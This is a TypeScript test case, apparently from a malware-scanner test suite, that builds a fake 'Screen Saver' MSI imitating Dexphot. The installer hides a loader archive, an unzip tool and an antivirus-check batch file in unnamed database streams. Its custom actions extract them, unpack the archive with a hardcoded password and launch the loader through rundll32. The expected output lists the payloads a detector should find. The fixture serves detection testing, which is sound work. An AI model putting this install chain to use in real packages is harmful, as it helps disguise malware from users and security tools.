/** Tool, archive and batch file in streams that no table names; a script reads them through `_Streams`. */
import { buildInstaller } from '../builder/installer.js';
import { avCheckBatch } from '../ingredient/batch.js';
import { LOADER } from '../ingredient/bundle.js';
import { loaderArchive } from '../ingredient/loader-archive.js';
import { infoZipTool } from '../ingredient/unzip-tool.js';
import { fullBundle, type SampleCase } from '../sample-case.js';

const PASSWORD = 'Tt5_pp41';

const COPY_OUT = `
Set view = Session.Database.OpenView("SELECT Name, Data FROM _Streams WHERE Name='q7' OR Name='q8' OR Name='q9'")
view.Execute
`;

export const sample: SampleCase = {
  name: 'dexphot-unnamed-streams',
  title: 'components in streams that no table names',
  kind: 'dexphot',
  fileName: 'streams.msi',
  build: () =>
    buildInstaller({
      name: 'Screen Saver',
      customActions: [
        { name: 'CopyOut', type: 38, target: COPY_OUT, after: 'InstallInitialize' },
        {
          name: 'Check',
          type: 34,
          source: 'TempFolder',
          target: 'cmd /c "[TempFolder]q9.bat"',
          after: 'InstallInitialize',
        },
        {
          name: 'Unpack',
          type: 34,
          source: 'TempFolder',
          target: `[TempFolder]q7.exe -o -P${PASSWORD} [TempFolder]q8.zip -d [FavoritesFolder]`,
          after: 'InstallFiles',
        },
        {
          name: 'Go',
          type: 34,
          source: 'TempFolder',
          target: `rundll32 [FavoritesFolder]${LOADER},Start`,
          after: 'InstallFiles',
        },
      ],
      database: {
        streams: [
          { name: 'q7', content: infoZipTool() },
          { name: 'q8', content: loaderArchive(LOADER, PASSWORD) },
          { name: 'q9', content: avCheckBatch() },
        ],
      },
    }),
  expected: fullBundle({ hasBatch: true, payloads: ['streams.msi › q7', 'streams.msi › q8 › bin.dat'] }),
};
